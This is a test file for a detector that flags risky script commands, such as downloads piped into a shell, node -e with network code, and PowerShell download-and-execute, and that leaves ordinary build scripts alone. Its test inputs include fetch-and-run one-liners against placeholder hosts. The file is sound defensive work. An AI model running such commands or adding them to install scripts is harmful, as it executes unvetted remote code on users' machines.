import { describe, expect, it } from 'vitest';
import { scriptRisks } from './script-risk.ts';

const kinds = (command: string) => scriptRisks(command).map((r) => r.kind);

describe('scriptRisks', () => {
  it('flags a download piped into a shell', () => {
    expect(kinds('curl -fsSL https://example.com/install.sh | sh')).toEqual(['pipe-to-shell']);
    expect(kinds('wget -qO- http://x.test/i | sudo bash')).toEqual(['pipe-to-shell']);
    expect(kinds('curl https://x.test/a.js | node')).toEqual(['pipe-to-shell']);
    expect(scriptRisks('curl -s https://x.test | sh')[0]?.reason).toBe('Downloads a script and runs it at once: what runs is whatever that server sends, not what you see here.');
  });

  it('flags curl or wget on their own as downloads', () => {
    expect(kinds('wget https://x.test/bin.tgz && tar xf bin.tgz')).toEqual(['download-tool']);
    expect(kinds('CURL -o f https://x.test/f')).toEqual(['download-tool']);
  });

  it('flags node -e with network code, not node -e without it', () => {
    expect(kinds(`node -e "require('https').get('https://x.test/p.js', r => r.pipe(process.stdout))"`)).toEqual(['node-eval-network']);
    expect(kinds('node --eval "fetch(u).then(r=>r.text()).then(eval)"')).toEqual(['node-eval-network']);
    expect(kinds('node -e "process.exit(3)"')).toEqual([]);
  });

  it('flags PowerShell downloads', () => {
    expect(kinds('powershell -c "iwr https://x.test/i.ps1 | iex"')).toEqual(['powershell-download']);
  });

  it('leaves ordinary build scripts alone', () => {
    for (const command of ['node mark.cjs postinstall', 'node-gyp rebuild', 'tsc -p .', 'node install.js', 'husky install', 'echo curly braces {}']) {
      expect(kinds(command)).toEqual([]);
    }
  });
});
